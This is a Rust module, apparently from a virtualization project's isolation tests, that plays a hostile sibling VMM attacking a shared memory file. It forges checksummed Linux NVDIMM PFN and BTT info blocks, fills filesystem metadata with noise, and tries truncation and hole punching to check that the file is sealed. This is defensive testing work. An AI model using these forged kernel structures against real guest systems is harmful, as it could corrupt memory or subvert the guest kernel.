//! What a sibling's hostile VMM can do to the sibling memory file, of which it has a descriptor.

use std::fs::{File, OpenOptions};
use std::os::unix::fs::FileExt;
use std::path::Path;

use anyhow::{Context, Result, bail};
use rustix::fs::{FallocateFlags, fallocate, ftruncate};
use rustix::io::Errno;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// Bytes of an info block, and where one is in an NVDIMM namespace.
const INFO_BLOCK: usize = 4096;
/// Bytes at the start of the file that hold a window's metadata.
const METADATA: usize = 1 << 20;
/// Pages of 2 MiB, in which Linux counts its `struct page`.
const LARGE_PAGE: u64 = 2 << 20;

/// An attack on a device VM through the sibling memory file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// Plant an info block that makes a kernel which believes it keep its `struct page` in the file.
    PfnInfoBlock,
    /// Plant one that makes the kernel take the file for a block translation table.
    BttInfoBlock,
    /// Overwrite the metadata of the window's file system with noise.
    Metadata,
    /// Make the file shorter.
    Truncate,
    /// Give back the memory of the window's header.
    Punch,
}

impl Attack {
    /// Carries the attack out on the sibling memory file at `path`, and says what came of it.
    ///
    /// # Errors
    ///
    /// Fails if the file cannot be written, or the kernel lets the file be made shorter.
    pub fn carry_out(self, path: &Path) -> Result<String> {
        let file = OpenOptions::new().read(true).write(true).open(path);
        let file = file.with_context(|| format!("cannot open {}", path.display()))?;
        let size = file.metadata()?.len();
        match self {
            Self::PfnInfoBlock => plant(&file, &pfn_info_block(size)),
            Self::BttInfoBlock => plant(&file, &btt_info_block()),
            Self::Metadata => {
                file.write_all_at(&noise(METADATA), 0)?;
                Ok(format!("{METADATA} bytes of metadata are noise"))
            }
            Self::Truncate => match ftruncate(&file, size - LARGE_PAGE) {
                Err(Errno::PERM) => Ok("the kernel does not make the file shorter".to_owned()),
                Err(error) => Err(error).context("want the error EPERM"),
                Ok(()) => bail!("the file became shorter: want it sealed"),
            },
            Self::Punch => {
                let hole = FallocateFlags::PUNCH_HOLE | FallocateFlags::KEEP_SIZE;
                fallocate(&file, hole, 0, LARGE_PAGE)?;
                Ok(format!("{LARGE_PAGE} bytes at the start were given back"))
            }
        }
    }
}

/// Writes an info block to where Linux looks for one.
fn plant(file: &File, block: &[u8]) -> Result<String> {
    file.write_all_at(block, INFO_BLOCK as u64)?;
    let name = block.split(|byte| *byte == 0).next().unwrap_or_default();
    Ok(format!("planted {}", String::from_utf8_lossy(name)))
}

/// `struct nd_pfn_sb` of Linux: the array of `struct page` is behind the block, in the same memory.
fn pfn_info_block(size: u64) -> Vec<u8> {
    const STRUCT_PAGE: u64 = 64;
    const PAGE: u64 = 4096;
    const MODE_PMEM: u32 = 2;
    let array = (size / PAGE * STRUCT_PAGE).next_multiple_of(LARGE_PAGE);
    let data = LARGE_PAGE + array;
    let pages = size.saturating_sub(data) / PAGE;
    let mut block = block(b"NVDIMM_PFN_INFO\0");
    put(&mut block, 52, &1u16.to_le_bytes());
    put(&mut block, 54, &4u16.to_le_bytes());
    put(&mut block, 56, &data.to_le_bytes());
    put(&mut block, 64, &pages.to_le_bytes());
    put(&mut block, 72, &MODE_PMEM.to_le_bytes());
    put(&mut block, 84, &(2u32 << 20).to_le_bytes());
    put(&mut block, 88, &4096u32.to_le_bytes());
    put(&mut block, 92, &64u16.to_le_bytes());
    sealed(block)
}

/// `struct btt_sb` of Linux: one arena, larger than the memory is.
fn btt_info_block() -> Vec<u8> {
    let mut block = block(b"BTT_ARENA_INFO\0\0");
    put(&mut block, 52, &1u16.to_le_bytes());
    put(&mut block, 54, &1u16.to_le_bytes());
    for (at, value) in [(56, 4096), (60, 1 << 30), (64, 4096), (68, (1 << 30) + 256), (72, 256), (76, 4096)] {
        put(&mut block, at, &u32::to_le_bytes(value));
    }
    for (at, value) in [(88, 4096), (96, 1 << 42), (104, 1 << 43), (112, 1 << 44)] {
        put(&mut block, at, &u64::to_le_bytes(value));
    }
    sealed(block)
}

fn block(signature: &[u8]) -> Vec<u8> {
    let mut block = vec![0; INFO_BLOCK];
    put(&mut block, 0, signature);
    block
}

fn put(block: &mut [u8], at: usize, bytes: &[u8]) {
    block[at..at + bytes.len()].copy_from_slice(bytes);
}

/// The block with its checksum, Fletcher's with 64 bits, in the last 8 bytes.
fn sealed(mut block: Vec<u8>) -> Vec<u8> {
    let (mut low, mut high) = (0u32, 0u64);
    for word in block.chunks_exact(4) {
        low = low.wrapping_add(word.try_into().map_or(0, u32::from_le_bytes));
        high = high.wrapping_add(low.into());
    }
    let sum = high << 32 | u64::from(low);
    put(&mut block, INFO_BLOCK - 8, &sum.to_le_bytes());
    block
}

/// The same bytes in each run, as they might be in no file system.
fn noise(length: usize) -> Vec<u8> {
    let step = |state: &u32| Some(state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223));
    std::iter::successors(Some(1), step).map(|state| state.to_be_bytes()[0]).take(length).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn info_blocks_are_where_and_what_linux_looks_for() {
        let mut file = tempfile::NamedTempFile::new().expect("a file");
        file.as_file_mut().set_len(64 << 20).expect("size");
        for (attack, signature) in
            [(Attack::PfnInfoBlock, "NVDIMM_PFN_INFO"), (Attack::BttInfoBlock, "BTT_ARENA_INFO")]
        {
            assert_eq!(attack.carry_out(file.path()).expect("planted"), format!("planted {signature}"));
            let mut block = vec![0; INFO_BLOCK];
            file.as_file().read_exact_at(&mut block, 4096).expect("read");
            assert!(block.starts_with(signature.as_bytes()));
            let mut unsealed = block.clone();
            put(&mut unsealed, INFO_BLOCK - 8, &[0; 8]);
            assert_eq!(sealed(unsealed), block);
        }
    }

    #[test]
    fn a_file_that_can_be_made_shorter_is_a_failure() {
        let file = tempfile::NamedTempFile::new().expect("a file");
        file.as_file().set_len(4 << 20).expect("size");
        let error = Attack::Truncate.carry_out(file.path()).expect_err("no seal").to_string();
        assert!(error.contains("want it sealed"), "{error}");
    }
}
